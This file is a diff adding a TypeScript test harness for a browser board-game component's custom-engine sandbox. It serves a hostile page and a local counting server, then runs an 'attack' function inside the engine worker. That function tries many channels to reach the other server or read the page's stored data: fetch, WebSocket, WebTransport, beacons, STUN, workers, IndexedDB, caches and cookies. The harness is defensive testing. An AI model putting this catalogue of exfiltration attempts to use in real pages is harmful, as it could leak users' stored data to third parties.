@@ -1,0 +1,206 @@
+/** An engine that tries to get at what the page has stored and to tell it to somebody else, and the page that it is chosen on. */
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { SCRIPT } from './engine-card.ts';
+
+/** A site without any policy that has the element, and a server that counts who reaches it. */
+export class Hostile {
+  /** What reached the other server: paths, or `udp`. */
+  readonly reached: string[] = [];
+  readonly page: string;
+  readonly other: string;
+  readonly #end: () => Promise<void>;
+
+  private constructor(site: Server, other: Server, udp: ReturnType<typeof createSocket>, element: string) {
+    this.page = address(site);
+    this.other = address(other);
+    udp.on('message', () => this.reached.push('udp'));
+    other.on('request', ({ url }, answer) => {
+      this.reached.push(String(url));
+      answer.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
+      answer.end('globalThis.postMessage?.("x")');
+    });
+    other.on('upgrade', ({ url }, socket) => {
+      this.reached.push(String(url));
+      socket.destroy();
+    });
+    site.on('request', async ({ url }, answer) => {
+      const path = String(url).split('?')[0];
+      // An isolated page has to hold as well; its frames need no file.
+      const isolated = String(url).endsWith('isolated');
+      if (path === '/') {
+        answer.writeHead(200, {
+          'Content-Type': 'text/html; charset=utf-8',
+          ...(isolated
+            ? { 'Cross-Origin-Opener-Policy': 'same-origin', 'Cross-Origin-Embedder-Policy': 'require-corp' }
+            : {}),
+        });
+        answer.end(
+          '<!doctype html><html lang="en"><title>Hostile</title><script type="module" src="/dist/index.js"></script>' +
+            '<renju-board mode="search" moves="h8 i9 g7"></renju-board>',
+        );
+        return;
+      }
+      const file = await fetch(element + path);
+      answer.writeHead(file.status, {
+        'Content-Type': file.headers.get('Content-Type') ?? 'text/plain',
+        'Cross-Origin-Embedder-Policy': 'require-corp',
+      });
+      answer.end(new Uint8Array(await file.arrayBuffer()));
+    });
+    this.#end = async () => {
+      udp.close();
+      for (const server of [site, other]) {
+        server.closeAllConnections();
+        server.close();
+      }
+    };
+  }
+
+  /** `element`: the origin that the files of the element are taken from. */
+  static async start(element: string): Promise<Hostile> {
+    const [site, other] = [createServer(), createServer()];
+    site.listen(0, '127.0.0.1');
+    other.listen(0, '127.0.0.1');
+    await Promise.all([once(site, 'listening'), once(other, 'listening')]);
+    const udp = createSocket('udp4');
+    // What goes by QUIC would come to the same number.
+    udp.bind((other.address() as AddressInfo).port, '127.0.0.1');
+    await once(udp, 'listening');
+    return new Hostile(site, other, udp, element);
+  }
+
+  end(): Promise<void> {
+    return this.#end();
+  }
+
+  /** The engine of the tests, which names itself by what it got at. */
+  script(): string {
+    return `${SCRIPT}\n(${attack})(${JSON.stringify(this.other)});`;
+  }
+}
+
+function address(server: Server): string {
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
+/** Runs after the script of the engine, in its worker. */
+function attack(other: string): void {
+  const scope = self as unknown as Record<string, never>;
+  const got: string[] = [];
+  const attempt = async (name: string, way: () => unknown) => {
+    const late = new Promise((resolve) => setTimeout(() => resolve(false), 1_500));
+    try {
+      if (await Promise.race([way(), late])) got.push(name);
+    } catch {
+      // As it should be.
+    }
+  };
+  const opens = (target: EventTarget, event: string) =>
+    new Promise((resolve, reject) => {
+      target.addEventListener(event, () => resolve(true));
+      target.addEventListener('error', reject);
+    });
+  const inWorker = (text: string, type: WorkerType = 'classic') =>
+    opens(new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type }), 'message');
+  // `fetch` itself is replaced by one that gives the chosen files; the worker below has the browser's.
+  const prototype = Object.getPrototypeOf(Object.getPrototypeOf(self));
+  const tries: Record<string, () => unknown> = {
+    import: () => import(`${other}/import?secret`),
+    fetch: () => fetch(`${other}/fetch?secret`, { mode: 'no-cors' }),
+    'own fetch': () => (prototype.fetch ?? fetch).call(self, `${other}/own-fetch?secret`, { mode: 'no-cors' }),
+    font: () => new FontFace('x', `url(${other}/font?secret)`).load(),
+    request: () => {
+      const request = new XMLHttpRequest();
+      request.open('GET', `${other}/request?secret`);
+      request.send();
+      return opens(request, 'load');
+    },
+    socket: () => opens(new WebSocket(`${other.replace('http', 'ws')}/socket?secret`), 'open'),
+    events: () => opens(new EventSource(`${other}/events?secret`), 'open'),
+    transport: async () => {
+      await new WebTransport(`${other.replace('http', 'https')}/transport?secret`).ready;
+      return true;
+    },
+    importScripts: () => {
+      (scope as unknown as { importScripts(address: string): void }).importScripts(`${other}/scripts?secret`);
+      return true;
+    },
+    worker: () => opens(new Worker(`${other}/worker?secret`), 'message'),
+    'worker that imports': () => inWorker(`import '${other}/inner?secret'; postMessage(1)`, 'module'),
+    'worker that fetches': () =>
+      inWorker(`fetch('${other}/inner-fetch?secret', { mode: 'no-cors' }).then(() => postMessage(1))`),
+    'shared worker': () => Boolean(new SharedWorker(`${other}/shared?secret`)),
+    peers: () => Boolean(new RTCPeerConnection({ iceServers: [{ urls: `stun:${other.slice('http://'.length)}` }] })),
+    beacon: () => (navigator as Navigator).sendBeacon(`${other}/beacon?secret`),
+    database: () =>
+      new Promise((resolve, reject) => {
+        const opening = indexedDB.open('secret');
+        opening.onsuccess = () => resolve(true);
+        opening.onerror = reject;
+      }),
+    databases: () => indexedDB.databases(),
+    // WebKit has empty ones for an origin that is none.
+    caches: async () => (await caches.match('/secret')) !== undefined,
+    files: async () => (await navigator.storage.getDirectory()).kind === 'directory',
+    channel: () => {
+      const channel = new BroadcastChannel('secret');
+      channel.postMessage('x');
+      return opens(channel, 'message');
+    },
+    locks: () => navigator.locks.query(),
+    cookies: () => (scope as unknown as { cookieStore: { getAll(): Promise<[]> } }).cookieStore.getAll(),
+    window: () => 'parent' in self || 'top' in self || 'open' in self || 'document' in self,
+    navigation: () => {
+      (self as unknown as { location: string }).location = `${other}/navigation?secret`;
+      return self.location.href.startsWith(other);
+    },
+    origin: () => self.origin !== 'null',
+    'messages past the limits': () => 'postMessage' in Object.getPrototypeOf(self),
+  };
+  const all = Promise.all(Object.entries(tries).map(([name, way]) => attempt(name, way)));
+  const before = scope.onmessage as unknown as (event: MessageEvent) => void;
+  scope.onmessage = (async (event: MessageEvent) => {
+    if (event.data !== 'ABOUT') return before(event);
+    await all;
+    postMessage(`name="Got at ${got.join(', ') || 'nothing'}", version="of ${Object.keys(tries).length}"`);
+  }) as never;
+}
+
+/** Stores secrets on the page, chooses the engine, and tells what it says of itself. Runs in the page. */
+export async function chooseHostile(script: string): Promise<string> {
+  await new Promise((resolve, reject) => {
+    const opening = indexedDB.open('secret');
+    opening.onsuccess = resolve;
+    opening.onerror = reject;
+  });
+  await (await caches.open('secret')).put('/secret', new Response('secret'));
+  const channel = new BroadcastChannel('secret');
+  channel.onmessage = () => channel.postMessage('secret');
+  const root = () => document.querySelector('renju-board')?.shadowRoot;
+  const until = async <T>(find: () => T | null | undefined | false): Promise<T> => {
+    for (;;) {
+      const found = find();
+      if (found) return found;
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+  };
+  const open = await until(() =>
+    [...(root()?.querySelectorAll('button') ?? [])].find((button) =>
+      /Engine/.test(button.textContent + String(button.ariaLabel) + button.title),
+    ),
+  );
+  open.click();
+  const input = await until(() => root()?.querySelector<HTMLInputElement>('.engine input[type=file]'));
+  const chosen = new DataTransfer();
+  chosen.items.add(new File([script], 'engine.js'));
+  input.files = chosen.files;
+  input.dispatchEvent(new Event('change'));
+  return until(() => {
+    const alert = root()?.querySelector('.engine [role=alert]')?.textContent;
+    const name = root()?.querySelector('.engine .row > b')?.textContent ?? '';
+    return alert || (/Got at/.test(name) && name);
+  });
+}
